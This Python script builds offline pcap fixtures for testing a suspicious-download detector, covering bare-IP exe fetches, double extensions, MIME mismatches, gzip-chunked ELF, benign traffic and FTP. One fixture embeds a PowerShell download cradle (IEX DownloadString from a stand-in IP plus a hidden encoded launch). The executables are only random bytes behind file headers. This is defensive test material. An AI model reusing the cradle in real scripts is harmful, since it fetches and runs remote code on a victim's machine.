#!/usr/bin/env python3
"""Crafts the suspicious-download lab captures of Tests/Fixtures/lab/ offline with scapy (nothing is sent).

dl-exe-bare-ip.pcap          curl fetches update.exe (PE) from http://203.0.113.77/ (Host is the IP)
dl-double-extension.pcap     a browser fetches invoice.pdf.exe (PE, Content-Disposition attachment)
dl-type-mismatch.pcap        a PE served as image/jpeg under the name logo.jpg
dl-powershell-script.pcap    PowerShell fetches a .ps1 with IEX / DownloadString from a named host
dl-gzip-chunked-exe.pcap     an ELF with no extension, gzip-encoded and chunked, from a bare IP
benign-downloads.pcap        a browser fetching html, css, js, png and a pdf from named hosts
benign-update-download-http.pcap  a vendor updater fetching its signed-looking installer over HTTP
ftp-transfers.pcap           FTP: PASV + RETR of a PE, then PORT (active) + STOR of a text file

Deterministic: fixed timestamps, seeded RNG, gzip mtime 0.

    python3 Tests/Lab/make-download-captures.py        # from any directory; needs scapy
"""
import gzip
import os
import random

from scapy.all import IP, TCP, Ether, Raw, wrpcap

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "Fixtures", "lab")
T0 = 1_790_100_000.0  # 2026-09-22, fixed
BROWSER = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Safari/537.36"


def mac(ip):
    return "02:00:%02x:%02x:%02x:%02x" % tuple(int(x) for x in ip.split("."))


def pe(seed, size=3000):
    rng = random.Random(seed)
    head = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00"
    body = head + b"This program cannot be run in DOS mode.\r\n" + b"PE\x00\x00"
    return body + bytes(rng.randrange(256) for _ in range(size - len(body)))


def elf(seed, size=2500):
    rng = random.Random(seed)
    head = b"\x7fELF\x01\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x03\x00"
    return head + bytes(rng.randrange(256) for _ in range(size - len(head)))


class Capture:
    def __init__(self, seed):
        self.packets = []
        self.rng = random.Random(seed)
        self.t = T0

    def add(self, pkt):
        ip = pkt[IP]
        frame = Ether(src=mac(ip.src), dst=mac(ip.dst)) / pkt
        self.t += 0.002
        frame.time = self.t
        self.packets.append(frame)

    def get(self, client, server, sport, host, target, head, body, agent=BROWSER, chunk=1400, dport=80):
        """One TCP connection: handshake, a GET, the response (`head` without Content-Length, which is
        added unless the head says chunked) in segments, FIN both ways."""
        cs, ss = self.rng.randrange(1 << 31), self.rng.randrange(1 << 31)
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="S", seq=cs, window=64240))
        self.add(IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=ss, ack=cs + 1))
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=cs + 1, ack=ss + 1))
        request = b"GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\nConnection: close\r\n\r\n" % (target, host, agent)
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="PA", seq=cs + 1, ack=ss + 1) / Raw(request))
        cs += 1 + len(request)
        if b"chunked" not in head:
            head += b"Content-Length: %d\r\n" % len(body)
        response = b"HTTP/1.1 200 OK\r\n" + head + b"\r\n" + body
        sent = 0
        while sent < len(response):
            piece = response[sent:sent + chunk]
            self.add(IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="PA", seq=ss + 1 + sent, ack=cs) / Raw(piece))
            sent += len(piece)
        ss += 1 + len(response)
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=cs, ack=ss))
        self.add(IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="FA", seq=ss, ack=cs))
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="FA", seq=cs, ack=ss + 1))
        self.add(IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="A", seq=ss + 1, ack=cs + 1))

    def connect(self, client, server, sport, dport):
        """A handshake; returns the two next sequence numbers [client, server]."""
        cs, ss = self.rng.randrange(1 << 31), self.rng.randrange(1 << 31)
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="S", seq=cs, window=64240))
        self.add(IP(src=server, dst=client) / TCP(sport=dport, dport=sport, flags="SA", seq=ss, ack=cs + 1))
        self.add(IP(src=client, dst=server) / TCP(sport=sport, dport=dport, flags="A", seq=cs + 1, ack=ss + 1))
        return [cs + 1, ss + 1]

    def say(self, seq, from_a, a, b, aport, bport, data):
        """`data` from a to b (from_a) or back on a connection whose next sequence numbers are `seq`."""
        src, dst, sport, dport, i = (a, b, aport, bport, 0) if from_a else (b, a, bport, aport, 1)
        self.add(IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="PA", seq=seq[i], ack=seq[1 - i]) / Raw(data))
        seq[i] += len(data)

    def close(self, seq, a, b, aport, bport):
        self.add(IP(src=a, dst=b) / TCP(sport=aport, dport=bport, flags="FA", seq=seq[0], ack=seq[1]))
        self.add(IP(src=b, dst=a) / TCP(sport=bport, dport=aport, flags="FA", seq=seq[1], ack=seq[0] + 1))
        self.add(IP(src=a, dst=b) / TCP(sport=aport, dport=bport, flags="A", seq=seq[0] + 1, ack=seq[1] + 1))

    def write(self, name):
        wrpcap(os.path.join(OUT, name), self.packets)


def chunked(data, size=700):
    out = b""
    for i in range(0, len(data), size):
        piece = data[i:i + size]
        out += b"%x\r\n%s\r\n" % (len(piece), piece)
    return out + b"0\r\n\r\n"


def main():
    c = Capture(1)
    c.get("10.30.0.21", "203.0.113.77", 50100, b"203.0.113.77", b"/update.exe", b"Content-Type: application/octet-stream\r\n",
          pe(1), agent=b"curl/8.5.0")
    c.write("dl-exe-bare-ip.pcap")

    c = Capture(2)
    c.get("10.30.0.22", "198.51.100.44", 50200, b"docs.invoices-online.example", b"/get?id=8812",
          b"Content-Type: application/pdf\r\nContent-Disposition: attachment; filename=\"invoice.pdf.exe\"\r\n", pe(2))
    c.write("dl-double-extension.pcap")

    c = Capture(3)
    c.get("10.30.0.23", "198.51.100.45", 50300, b"img.example-media.net", b"/static/logo.jpg", b"Content-Type: image/jpeg\r\n", pe(3))
    c.write("dl-type-mismatch.pcap")

    script = (b"$wc = New-Object Net.WebClient\r\n$wc.Headers.Add('User-Agent','Mozilla/5.0')\r\n"
              b"IEX ($wc.DownloadString('http://198.51.100.46/stage2.txt'))\r\n"
              b"Start-Process -WindowStyle Hidden powershell.exe -ArgumentList '-nop -w hidden -EncodedCommand SQBFAFgA'\r\n")
    c = Capture(4)
    c.get("10.30.0.24", "198.51.100.46", 50400, b"cdn.fast-files.example", b"/s/a.ps1", b"Content-Type: text/plain\r\n", script,
          agent=b"Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291")
    c.write("dl-powershell-script.pcap")

    c = Capture(5)
    c.get("10.30.0.25", "198.51.100.23", 50500, b"198.51.100.23", b"/bins/x86",
          b"Content-Type: application/octet-stream\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n",
          chunked(gzip.compress(elf(5), mtime=0)), agent=b"Wget/1.21.4")
    c.write("dl-gzip-chunked-exe.pcap")

    c = Capture(6)
    client = "10.30.0.30"
    page = b"<!DOCTYPE html><html><head><title>News</title><link rel=stylesheet href=/s.css><script src=/app.js></script></head>" \
           b"<body>" + b"<p>Article text.</p>" * 60 + b"</body></html>"
    css = b"body { font-family: sans-serif; margin: 0 auto; max-width: 60em; }\n" * 20
    js = b"(function(){ document.querySelectorAll('a').forEach(function(a){ a.rel = 'noopener'; }); })();\n" * 15
    png = b"\x89PNG\r\n\x1a\n" + bytes(random.Random(6).randrange(256) for _ in range(1800))
    pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n" + b"% filler\n" * 150 + b"trailer << /Root 1 0 R >>\n%%EOF\n"
    c.get(client, "198.51.100.60", 51000, b"news.example.com", b"/", b"Content-Type: text/html; charset=utf-8\r\n", page)
    c.get(client, "198.51.100.61", 51001, b"static.example-cdn.net", b"/s.css", b"Content-Type: text/css\r\n", css)
    c.get(client, "198.51.100.61", 51002, b"static.example-cdn.net", b"/app.js", b"Content-Type: application/javascript\r\n", js)
    c.get(client, "198.51.100.61", 51003, b"static.example-cdn.net", b"/img/hero.png", b"Content-Type: image/png\r\n", png)
    c.get(client, "198.51.100.60", 51004, b"news.example.com", b"/reports/annual-2025.pdf", b"Content-Type: application/pdf\r\n", pdf)
    c.write("benign-downloads.pcap")

    c = Capture(7)
    c.get("10.30.0.31", "198.51.100.70", 51100, b"download.example-vendor.com", b"/updates/4.2.1/ToolSetup-4.2.1-x64.exe",
          b"Content-Type: application/x-msdownload\r\nETag: \"4.2.1-x64\"\r\n", pe(7, 6000), agent=b"ExampleVendor-Updater/4.2.0")
    c.write("benign-update-download-http.pcap")

    c = Capture(8)
    client, server = "10.30.0.40", "198.51.100.80"
    ctl = c.connect(client, server, 50500, 21)
    say = lambda data, from_client: c.say(ctl, from_client, client, server, 50500, 21, data)
    say(b"220 files.example-ftp.net FTP server ready\r\n", False)
    say(b"USER anonymous\r\n", True)
    say(b"331 Please specify the password.\r\n", False)
    say(b"PASS guest@\r\n", True)
    say(b"230 Login successful.\r\n", False)
    say(b"TYPE I\r\n", True)
    say(b"200 Switching to Binary mode.\r\n", False)
    say(b"PASV\r\n", True)
    say(b"227 Entering Passive Mode (198,51,100,80,195,80).\r\n", False)  # port 50000
    say(b"RETR tools.exe\r\n", True)
    data = c.connect(client, server, 50600, 50000)
    say(b"150 Opening BINARY mode data connection for tools.exe (4000 bytes).\r\n", False)
    payload = pe(8, 4000)
    for i in range(0, len(payload), 1400):
        c.say(data, False, client, server, 50600, 50000, payload[i:i + 1400])
    c.close([data[1], data[0]], server, client, 50000, 50600)
    say(b"226 Transfer complete.\r\n", False)
    say(b"PORT 10,30,0,40,197,200\r\n", True)  # port 50632
    say(b"200 PORT command successful.\r\n", False)
    say(b"STOR notes.txt\r\n", True)
    data = c.connect(server, client, 20, 50632)
    say(b"150 Ok to send data.\r\n", False)
    c.say(data, False, server, client, 20, 50632, b"meeting notes\n" * 40)
    c.close([data[1], data[0]], client, server, 50632, 20)
    say(b"226 Transfer complete.\r\n", False)
    say(b"QUIT\r\n", True)
    say(b"221 Goodbye.\r\n", False)
    c.close(ctl, client, server, 50500, 21)
    c.write("ftp-transfers.pcap")


if __name__ == "__main__":
    main()
